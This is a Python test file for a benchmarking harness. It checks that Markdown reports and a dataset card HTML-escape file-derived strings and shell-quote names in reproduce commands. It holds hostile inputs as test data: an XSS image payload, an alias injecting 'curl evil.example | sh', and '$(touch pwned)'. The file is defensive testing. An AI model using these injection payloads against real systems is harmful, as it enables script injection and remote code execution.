"""Markdown outputs (report.md, the dataset card) HTML-escape every string that comes from a file, as the HTML
outputs do; the card's Reproduce commands quote names for the shell."""

from __future__ import annotations

import shlex
from pathlib import Path

import pandas as pd

from harness.core import markdown as md
from harness.publish import card
from harness.report.html import Section

EVIL = '<img src=x onerror=alert(1)>'
ESCAPED = "&lt;img src=x onerror=alert(1)&gt;"


def test_text_code_and_fence_escape_exactly() -> None:
    assert md.text(EVIL + " | a\nb") == ESCAPED + " \\| a b"
    assert md.code("plain-name") == "`plain-name`"
    assert md.code("a`b<c>|d") == "<code>a&#96;b&lt;c&gt;&#124;d</code>"
    assert md.fence("x\n```\n<b>") == "````\nx\n```\n<b>\n````"
    assert md.text(md.code(EVIL)) == md.code(EVIL)  # already rendered: not escaped twice


def test_report_sections_escape_paragraphs_tables_figures_and_blocks() -> None:
    sec = Section("t")
    sec.para(EVIL)
    sec.table(pd.DataFrame({"model": [EVIL], "exact prefix": ["`" + EVIL]}), code_cols=("exact prefix",))
    sec.pre("```\n" + EVIL)
    text = "\n".join(sec.md)
    assert "<img" not in text.split("````")[0]
    assert text.startswith(f"{ESCAPED}\n") and f"| {ESCAPED} | <code>&#96;{ESCAPED}</code> |" in text
    assert "````\n```\n" + EVIL + "\n````" in text  # inside a fence no line can close, it is not rendered as HTML


def _contents(alias: str, model: str, condition: str) -> card.Contents:
    side = {"alias": alias, "model": model, "revision": "r<1>", "task": "T<b>", "condition": condition,
            "task_type": "STS", "prompts": {"query": EVIL}, "model_settings": {"device": EVIL}}
    return card.Contents(Path("."), pd.DataFrame(), pd.DataFrame(), [side], [], [], [],
                         {(model, "r<1>"): {"license": EVIL}})


def test_the_card_escapes_names_instructions_and_licenses() -> None:
    c = _contents(EVIL, f"org/{EVIL}", "none")
    body = card._models(c) + card._instructions(c)
    assert "<img" not in body and "<b>" not in body and "<1>" not in body
    assert f"<code>{ESCAPED}</code>" in body and f"device={ESCAPED}" in body and f"| {ESCAPED} |" in body
    assert f"**{ESCAPED}**" in body and "<code>&#x27;&lt;img src=x onerror=alert(1)&gt;&#x27;</code>" in body


def test_the_reproduce_block_quotes_names_for_the_shell() -> None:
    alias = "x; curl evil.example | sh #"
    block = card._reproduce(_contents(alias, "m", "$(touch pwned)"))
    run = block.split("\n")[1]
    assert shlex.split(run) == ["harness", "run", "--model", alias, "--tasks", "T<b>", "--conditions",
                                "$(touch pwned)", "--results", "results"]
